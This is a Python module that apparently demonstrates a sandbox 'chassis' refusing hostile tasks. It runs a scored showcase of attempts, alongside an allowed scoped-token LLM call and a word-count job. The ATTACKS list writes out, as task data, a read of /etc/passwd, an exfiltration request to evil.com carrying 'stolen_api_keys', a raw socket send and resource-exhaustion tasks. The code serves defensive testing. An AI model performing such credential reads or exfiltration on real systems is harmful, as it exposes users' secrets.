"""Attacks and useful work run through a real chassis, for the demo and the CLI.

Each entry is a real task for the reference guest; the row says what the sandbox did with it.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Any

from .chassis import IFChassis
from .contracts import ResourceLimits, ServiceContract
from .credentials import ScopedCredentials
from .errors import ChassisError
from .modules import reference_module
from .upstream import LocalUpstream


@dataclass
class ShowcaseRow:
    scenario: str
    swarm_id: str
    outcome: str  # "refused" or "ok"
    detail: str
    error_code: str | None
    seconds: float


ATTACKS: list[tuple[str, dict[str, Any]]] = [
    ("read /etc/passwd", {"action": "read_file", "path": "/etc/passwd"}),
    ("exfiltrate to evil.com", {"action": "http_request", "url": "https://evil.com/x", "data": "stolen_api_keys"}),
    ("raw socket", {"action": "socket_send"}),
    ("512 MB memory bomb", {"action": "allocate_512mb"}),
    ("infinite loop", {"action": "loop_forever"}),
    ("stack overflow", {"action": "recurse"}),
]


async def run_showcase(chassis: IFChassis | None = None) -> list[ShowcaseRow]:
    """Run the attacks and an allowed outbound call; the chassis (and the process) survive them all."""
    own = chassis is None
    if chassis is None:
        from infrafabric.audit import log_operation  # the process's witness; a caller may pass its own chassis

        chassis = IFChassis(audit=log_operation, reputation_sink=None)
    rows: list[ShowcaseRow] = []
    chassis.load_swarm("attacker", reference_module(), ServiceContract(
        "attacker", resource_requirements=ResourceLimits(max_execution_time_seconds=1, max_cpu_percent=20)))
    for scenario, task in ATTACKS:
        rows.append(await _attempt(chassis, scenario, "attacker", task))
    with LocalUpstream() as upstream:
        endpoint = upstream.url("/v1/chat/completions")
        creds = ScopedCredentials("helper", "demo-1", "sk-demo-scoped", 60, [endpoint])
        rows.append(await _attempt(chassis, "allowed LLM call with scoped token", "helper",
                                   {"id": "demo-1", "action": "call_llm", "url": endpoint, "prompt": "hi"}, creds))
        rows.append(await _attempt(chassis, "same token, other swarm", "attacker",
                                   {"id": "demo-1", "action": "call_llm", "url": endpoint, "prompt": "hi"}, creds))
    rows.append(await _attempt(chassis, "useful work: word count", "helper",
                               {"action": "wordcount", "text": "swarms keep working after every attack"}))
    if own:
        chassis.close()
    return rows


async def _attempt(chassis: IFChassis, scenario: str, swarm: str, task: dict[str, Any],
                   creds: ScopedCredentials | None = None) -> ShowcaseRow:
    start = time.monotonic()
    try:
        result = await chassis.execute_task(swarm, task, creds)
    except ChassisError as exc:
        return ShowcaseRow(scenario, swarm, "refused", f"{type(exc).__name__}: {exc.message}", exc.error_code,
                           time.monotonic() - start)
    return ShowcaseRow(scenario, swarm, "ok", str(result)[:120], None, time.monotonic() - start)
